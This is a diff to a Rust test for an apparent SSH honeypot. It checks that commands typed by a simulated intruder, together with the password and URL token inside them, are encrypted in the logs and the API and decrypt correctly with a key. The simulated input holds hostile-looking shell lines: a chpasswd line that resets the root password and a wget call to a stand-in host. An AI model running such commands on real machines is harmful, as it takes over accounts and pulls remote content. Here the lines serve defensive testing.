@@ -254,13 +254,14 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
         ))
         .send()
         .unwrap();
-    // A session with the accepted password: recorded, and a file written.
-    let shown = openssh_shell(
-        &ssh,
-        "root",
-        accepted,
-        b"echo Upl0ad-marker > /tmp/m.sh\nexit\n",
+    // A session with the accepted password: recorded, and a file written; a typed
+    // command carries a password, a download URL a token.
+    let command_password = "Cmd-pw-4Hs9";
+    let url_token = "Url-tok-6Pw2";
+    let typed = format!(
+        "echo Upl0ad-marker > /tmp/m.sh\necho root:{command_password} | chpasswd\nwget -q http://198.51.100.9/x?token={url_token}\nexit\n"
     );
+    let shown = openssh_shell(&ssh, "root", accepted, typed.as_bytes());
     assert!(shown.contains("root@"), "{shown}");
     assert!(server.sigterm().success());
 
@@ -276,7 +277,10 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
     assert!(files.iter().any(|f| f.ends_with("cowrie.json")));
     for file in &files {
         let bytes = std::fs::read(file).unwrap();
-        for secret in secrets.iter().chain([&query_password]) {
+        for secret in secrets
+            .iter()
+            .chain([&query_password, &command_password, &url_token])
+        {
             assert!(
                 !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                 "{secret} in clear in {}",
@@ -324,6 +328,24 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
         )),
         "the query string not decrypted"
     );
+    assert!(
+        clear.contains(&format!(
+            "\"input\":\"echo root:{command_password} | chpasswd\""
+        )),
+        "the typed command not decrypted"
+    );
+    assert!(
+        clear.contains(&format!(
+            "\"url\":\"http://198.51.100.9/x?token={url_token}\""
+        )),
+        "the download URL not decrypted"
+    );
+    let typed_event = events
+        .iter()
+        .find(|e| e["kind"] == "ssh.command" && e["data"]["input_enc"].is_string())
+        .expect("a sealed command");
+    assert!(typed_event["data"].get("input").is_none());
+    assert_eq!(typed_event["summary"], "root: (encrypted)");
 
     // The Cowrie-format log too.
     let cowrie = data.join("cowrie.json");
@@ -340,6 +362,12 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
     let clear = String::from_utf8_lossy(&out.stdout);
     assert!(
         clear.contains(&format!("\"password\":\"{}\"", refused[0])),
+        "{clear}"
+    );
+    assert!(
+        clear.contains(&format!(
+            "\"input\":\"echo root:{command_password} | chpasswd\""
+        )),
         "{clear}"
     );
 
@@ -408,9 +436,31 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
             .unwrap();
         body["events"][0]["data"].clone()
     };
+    let chpasswd_via_api = |server: &Server| {
+        let body: serde_json::Value = crate::util::client()
+            .get(format!("{}/api/v1/events?kind=ssh.command", server.url))
+            .bearer_auth(&token)
+            .send()
+            .unwrap()
+            .json()
+            .unwrap();
+        body["events"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|e| e["data"].clone())
+            .collect::<Vec<_>>()
+    };
     let mut plain = Server::start(&data, None);
     let shown = failed_via_api(&plain);
     assert!(shown.get("password").is_none() && shown["password_enc"].is_string());
+    let commands = chpasswd_via_api(&plain);
+    assert!(!commands.is_empty());
+    assert!(
+        commands
+            .iter()
+            .all(|c| c.get("input").is_none() && c["input_enc"].is_string())
+    );
     assert!(plain.sigterm().success());
     let with_key = dir.path().join("with-key.toml");
     std::fs::write(
@@ -423,6 +473,12 @@ fn with_encrypt_to_no_password_is_left_in_clear_and_decrypt_gives_them_back() {
     assert!(
         refused.iter().any(|p| shown["password"] == p.as_str()),
         "{shown}"
+    );
+    let commands = chpasswd_via_api(&keyed);
+    let chpasswd = format!("echo root:{command_password} | chpasswd");
+    assert!(
+        commands.iter().any(|c| c["input"] == chpasswd.as_str()),
+        "{commands:?}"
     );
     assert!(keyed.sigterm().success());
 }
